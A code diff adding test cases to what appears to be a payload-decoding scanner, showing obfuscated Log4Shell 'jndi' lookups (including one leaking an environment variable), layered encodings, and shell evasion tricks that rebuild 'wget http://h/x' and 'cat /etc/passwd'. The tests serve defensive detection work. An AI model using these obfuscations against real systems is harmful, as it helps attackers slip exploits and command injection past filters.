@@ -34,6 +34,10 @@ from dropscan.decode import (
         ("%26%23119%3Bget", "wget"),  # entity hidden under percent-encoding
         ("cd+/tmp;ls", "cd /tmp;ls"),
         ("1%2B1", "1+1"),
+        ("\\u002524%7Bjndi", "${jndi"),  # JSON escape of a percent-encoding
+        ("$\\u0026lbrace;jndi:", "${jndi:"),  # JSON escape of a named entity
+        ("&#x24;&#000000000000000123;jndi:", "${jndi:"),  # zero-padded numeric entity
+        ("%24&lcub;\\u006A&#110;di:", "${jndi:"),  # three layers mixed
     ],
 )
 def test_url_decode(raw, want):
@@ -55,6 +59,17 @@ def test_url_decode(raw, want):
         ("w$@get", "wget"),
         ("p^o^w^e^r^s^h^e^l^l", "powershell"),
         ("a\tb   c", "a b c"),
+        ("{l,-lh}s", "ls -lhs"),  # bash distributes the word around a brace list
+        ("c{a,oun}t", "cat count"),
+        ("x={ls,-la}", "x=ls -la"),  # but not across '=' (the parameter syntax)
+        ("c$?at /et$!c/passwd", "cat /etc/passwd"),
+        ("$_GET[x]", "$_GET[x]"),  # PHP superglobals are not shell expansions
+        ("a; id | sh && ls", "a;id |sh &&ls"),  # no whitespace after a separator
+        ("a & id", "a & id"),  # ...but a lone '&' keeps it (query strings)
+        ("$(printf '\\167\\147\\145\\164') http://h/x", "wget http://h/x"),
+        ("`echo wget` http://h/x", "wget http://h/x"),
+        ("\\n/bin/ls -al\\n", "\n/bin/ls -al\n"),  # \n outside a word is a line break
+        ("w\\ge\\t h", "wget h"),  # inside a word the backslash quotes a letter
     ],
 )
 def test_cmd_normalise(raw, want):
@@ -72,6 +87,8 @@ def test_cmd_normalise(raw, want):
         ("${jndi:ldap://${env:USER}.h.example/a}", "${jndi:ldap://.h.example/a}"),
         ("${REMOVED_DEVICES}", ""),
         ("${unclosed", "${unclosed"),
+        ("${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}", "${jndi:ldap:addr}"),  # a lookup's value is a lookup
+        ("${jn${base64:ZGk=}:ldap://h}", "${jndi:ldap://h}"),  # two-letter base64 value
     ],
 )
 def test_resolve_lookups(raw, want):
